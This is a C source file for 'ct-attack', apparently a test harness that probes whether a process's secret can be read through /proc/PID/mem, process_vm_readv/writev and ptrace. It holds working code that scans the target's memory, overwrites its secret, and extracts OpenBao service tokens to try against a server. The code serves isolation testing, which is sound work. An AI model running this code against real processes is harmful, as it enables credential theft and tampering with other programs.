/* ct-attack's vectors on the target's memory: /proc/PID/mem,
 * process_vm_readv/writev, ptrace. Each reads at the secret's address
 * first (the probe stops there), then the hunt walks the target's
 * mappings. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define PTRACE_CAP (16UL << 20) /* words peeked one by one: bounded */

/* Reads n bytes at addr into dst: the count, or -errno. */
typedef long (*reader)(void *ctx, unsigned long addr, void *dst, size_t n);

static long rd_mem(void *ctx, unsigned long addr, void *dst, size_t n)
{
	ssize_t r = pread(*(int *)ctx, dst, n, (off_t)addr);

	return r < 0 ? -errno : r;
}

static long rd_vm(void *ctx, unsigned long addr, void *dst, size_t n)
{
	struct iovec local = { dst, n }, remote = { (void *)addr, n };
	ssize_t r = process_vm_readv(attack.pid, &local, 1, &remote, 1, 0);

	(void)ctx;
	return r < 0 ? -errno : r;
}

static long rd_peek(void *ctx, unsigned long addr, void *dst, size_t n)
{
	size_t done = 0;

	(void)ctx;
	for (; done + sizeof(long) <= n; done += sizeof(long)) {
		long w;

		errno = 0;
		w = ptrace(PTRACE_PEEKDATA, attack.pid, addr + done, 0);
		if (errno)
			return done ? (long)done : -errno;
		memcpy((char *)dst + done, &w, sizeof(w));
	}
	return (long)done;
}

/* One read at addr; a failure is the vector's refusal. */
static void read_at(reader rd, void *ctx, unsigned long addr, const char *what_read)
{
	static unsigned char tmp[4096];
	struct scanner sc = { 0 };
	long n = rd(ctx, addr, tmp, AT_LEN);

	if (n < 0)
		return refused(what_read, (int)-n);
	feed(&sc, tmp, (size_t)n);
	took((unsigned long)n, sc.hits);
	item("\"what\":\"%s\",\"bytes\":%ld,\"hits\":%ld", what_read, n, sc.hits);
}

/* ---- the target's mappings (the hunt) ---- */

int read_maps(struct mapping **out)
{
	char path[64], line[768];
	struct mapping *v;
	int n = 0, cap = 64;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)attack.pid);
	step("open %s", path);
	f = fopen(path, "r");
	if (!f)
		return -errno;
	v = calloc(cap, sizeof(*v));
	while (v && fgets(line, sizeof(line), f)) {
		struct mapping *m;
		char *name;
		int off = 0;

		if (n == cap) {
			struct mapping *w = realloc(v, 2 * cap * sizeof(*v));

			if (!w)
				break;
			v = w;
			cap *= 2;
		}
		m = &v[n];
		if (sscanf(line, "%lx-%lx %4s %*s %*s %*s %n", &m->start, &m->end, m->perms,
			   &off) < 3)
			continue;
		name = line + off;
		name[strcspn(name, "\n")] = 0;
		snprintf(m->name, sizeof(m->name), "%s", *name ? name : "[anon]");
		/* JSON-safe: names are paths; drop quotes and backslashes */
		for (char *c = m->name; *c; c++)
			if (*c == '"' || *c == '\\' || (unsigned char)*c < 0x20)
				*c = '?';
		n++;
	}
	fclose(f);
	*out = v;
	return n;
}

/* Reads [start, end) in chunks; returns the errno that stopped it. */
static int scan_range(reader rd, void *ctx, unsigned long start, unsigned long end,
		      struct scanner *sc)
{
	static unsigned char tmp[CHUNK];

	for (unsigned long a = start; a < end;) {
		size_t want = end - a < CHUNK ? end - a : CHUNK;
		long n = rd(ctx, a, tmp, want);

		if (n <= 0)
			return n < 0 ? (int)-n : EIO;
		feed(sc, tmp, (size_t)n);
		a += (unsigned long)n;
	}
	return 0;
}

/* Every readable mapping (only_writable: the writable, anonymous and stack
 * ones, within PTRACE_CAP bytes), one item each that gave up a marker or
 * an error, one for the rest. */
static void scan_mappings(reader rd, void *ctx, int only_writable)
{
	unsigned long budget = PTRACE_CAP;
	struct mapping *maps = NULL;
	int n = read_maps(&maps), clean = 0;

	if (n < 0)
		return item_err("open maps", -n);
	for (int i = 0; i < n; i++) {
		struct mapping *m = &maps[i];
		struct scanner sc = { 0 };
		int err;

		if (m->perms[0] != 'r' || strcmp(m->name, "[vsyscall]") == 0)
			continue;
		if (only_writable && m->perms[1] != 'w' && strcmp(m->name, "[anon]") != 0 &&
		    strcmp(m->name, "[stack]") != 0 && !strstr(m->name, "secretmem"))
			continue;
		if (only_writable && m->end - m->start > budget)
			continue;
		if (only_writable)
			budget -= m->end - m->start;
		err = scan_range(rd, ctx, m->start, m->end, &sc);
		took(0, sc.hits);
		if (err)
			item("\"what\":\"%s\",\"bytes\":%lu,\"hits\":%ld,\"per\":%s,\"err\":\"%s\"",
			     m->name, sc.bytes, sc.hits, per_marker(&sc), ename(err));
		else if (sc.hits)
			item("\"what\":\"%s\",\"bytes\":%lu,\"hits\":%ld,\"per\":%s", m->name,
			     sc.bytes, sc.hits, per_marker(&sc));
		else
			clean++;
	}
	item("\"what\":\"other readable mappings\",\"count\":%d,\"hits\":0", clean);
	free(maps);
}

/* ---- vectors ---- */

static int open_mem(void)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", (int)attack.pid);
	step("open %s", path);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		refused("open mem", errno);
	return fd;
}

/* pread /proc/PID/mem at the secret. */
int v_mem(void)
{
	int fd = open_mem();

	if (fd < 0)
		return finish();
	step("pread mem at region");
	if (attack.addr)
		read_at(rd_mem, &fd, attack.addr, "pread region");
	close(fd);
	return finish();
}

/* Every readable mapping through /proc/PID/mem. */
int v_scan(void)
{
	int fd = open_mem();

	if (fd < 0)
		return finish();
	scan_mappings(rd_mem, &fd, 0);
	close(fd);
	return finish();
}

/* process_vm_readv at the secret (without one, at a fixed page), then the
 * hunt reads every readable mapping. */
int v_vm_readv(void)
{
	step("process_vm_readv");
	if (attack.addr)
		read_at(rd_vm, NULL, attack.addr, "process_vm_readv region");
	else
		read_at(rd_vm, NULL, 0x1000, "process_vm_readv probe");
	if (attack.hunt)
		scan_mappings(rd_vm, NULL, 0);
	return finish();
}

/* process_vm_writev over the secret: a write, which a reader of the
 * secret would also need to keep the target working. */
int v_vm_writev(void)
{
	char data[32];
	struct iovec local = { data, sizeof(data) };
	struct iovec remote = { (void *)attack.addr, sizeof(data) };

	memcpy(data, "CT-SECRET-overwritten!!!!!!!!!!!", sizeof(data));
	step("process_vm_writev");
	if (process_vm_writev(attack.pid, &local, 1, &remote, 1, 0) < 0)
		refused("process_vm_writev", errno);
	else
		item("\"what\":\"process_vm_writev region\",\"bytes\":%zu,\"hits\":0", sizeof(data));
	return finish();
}

/* Attached: PEEKDATA at the secret, then the hunt peeks every writable or
 * anonymous mapping word by word; detach. */
static int peek_and_detach(void)
{
	int status;

	waitpid(attack.pid, &status, __WALL);
	if (attack.addr)
		read_at(rd_peek, NULL, attack.addr, "PEEKDATA region");
	if (attack.hunt)
		scan_mappings(rd_peek, NULL, 1);
	ptrace(PTRACE_DETACH, attack.pid, 0, 0);
	return finish();
}

int v_ptrace(void)
{
	step("PTRACE_ATTACH");
	if (ptrace(PTRACE_ATTACH, attack.pid, 0, 0) < 0) {
		refused("PTRACE_ATTACH", errno);
		return finish();
	}
	return peek_and_detach();
}

/* SEIZE does not stop the target; INTERRUPT does, the way a debugger (or a
 * syscall injector) takes control. */
int v_ptrace_seize(void)
{
	step("PTRACE_SEIZE");
	if (ptrace(PTRACE_SEIZE, attack.pid, 0, 0) < 0) {
		refused("PTRACE_SEIZE", errno);
		return finish();
	}
	step("PTRACE_INTERRUPT");
	if (ptrace(PTRACE_INTERRUPT, attack.pid, 0, 0) < 0) {
		refused("PTRACE_INTERRUPT", errno);
		return finish();
	}
	return peek_and_detach();
}

/* ---- tokens (the hunt only) ---- */

#define MAX_TOKENS 64
#define TOKEN_LEN 26 /* "s." + 24: an OpenBao service token */

static char tokens[MAX_TOKENS][TOKEN_LEN + 1];
static int n_tokens;

static int alnum(unsigned char c)
{
	return (c >= '0' && c <= '9') || (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z');
}

/* Token-shaped strings in p[0..n): "s." + 24 alphanumerics, not part of a
 * longer word; each new one kept. Returns how many were seen. */
static long find_tokens(const unsigned char *p, size_t n)
{
	long seen = 0;

	for (size_t i = 0; i + TOKEN_LEN <= n; i++) {
		size_t k = 2;

		if (p[i] != 's' || p[i + 1] != '.' || (i > 0 && (alnum(p[i - 1]) || p[i - 1] == '.')))
			continue;
		while (k < TOKEN_LEN && alnum(p[i + k]))
			k++;
		if (k < TOKEN_LEN || (i + TOKEN_LEN < n && alnum(p[i + TOKEN_LEN])))
			continue;
		seen++;
		int dup = 0;
		for (int t = 0; t < n_tokens && !dup; t++)
			dup = memcmp(tokens[t], p + i, TOKEN_LEN) == 0;
		if (!dup && n_tokens < MAX_TOKENS)
			memcpy(tokens[n_tokens++], p + i, TOKEN_LEN);
	}
	return seen;
}

/* Every readable mapping through /proc/PID/mem, looking for tokens: the
 * items say where (counts), the final line's "tokens" lists each distinct
 * one for the harness to try against the server. The one output of
 * ct-attack that holds a credential: the harness keeps it out of every
 * report. */
int v_tokens(void)
{
	static unsigned char tmp[CHUNK];
	struct mapping *maps = NULL;
	int fd = open_mem(), n, clean = 0;
	char list[MAX_TOKENS * (TOKEN_LEN + 3) + 2];
	size_t len = 0;

	if (fd < 0)
		return finish();
	n = read_maps(&maps);
	if (n < 0) {
		item_err("open maps", -n);
		close(fd);
		return finish();
	}
	for (int i = 0; i < n; i++) {
		struct mapping *m = &maps[i];
		long seen = 0;
		int err = 0;

		if (m->perms[0] != 'r' || strcmp(m->name, "[vsyscall]") == 0)
			continue;
		/* chunks overlap by a token's length: none is cut in two */
		for (unsigned long a = m->start; a < m->end;) {
			size_t want = m->end - a < CHUNK ? m->end - a : CHUNK;
			ssize_t got = pread(fd, tmp, want, (off_t)a);

			if (got <= 0) {
				err = got < 0 ? errno : EIO;
				break;
			}
			seen += find_tokens(tmp, (size_t)got);
			if (a + (unsigned long)got >= m->end || (size_t)got <= TOKEN_LEN)
				break;
			a += (unsigned long)got - TOKEN_LEN;
		}
		if (err)
			item("\"what\":\"%s\",\"token_strings\":%ld,\"err\":\"%s\"", m->name, seen,
			     ename(err));
		else if (seen)
			item("\"what\":\"%s\",\"token_strings\":%ld", m->name, seen);
		else
			clean++;
	}
	item("\"what\":\"other readable mappings\",\"count\":%d,\"hits\":0", clean);
	free(maps);
	close(fd);
	list[len++] = '[';
	for (int t = 0; t < n_tokens; t++)
		len += snprintf(list + len, sizeof(list) - len, "%s\"%s\"", t ? "," : "", tokens[t]);
	snprintf(list + len, sizeof(list) - len, "]");
	fact("\"tokens\":%s", list);
	explicit_bzero(tokens, sizeof(tokens));
	return finish();
}
